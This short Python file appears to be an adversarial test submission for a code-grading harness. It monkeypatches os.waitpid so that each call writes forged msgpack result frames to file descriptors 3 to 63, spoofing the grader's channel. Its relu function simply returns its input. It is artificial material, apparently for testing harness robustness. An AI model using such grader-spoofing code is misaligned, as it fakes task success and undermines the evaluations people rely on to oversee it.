# Ends its exercise, from a cell that has taken the session over, with an array in place of a word.
# target: relu
# spoils: *

import os
def hostile_send(*messages):
    import os, struct
    for fd in range(3, 64):
        for data in messages:
            try: os.write(fd, struct.pack(">I", len(data)) + data)
            except OSError: break
real = os.waitpid
def waitpid(*a):
    import msgpack
    hostile_send(msgpack.packb(msgpack.ExtType(1, msgpack.packb(["<f8", [2], bytes(16)]))))
    return real(*a)
os.waitpid = waitpid
def relu(x):
    return x
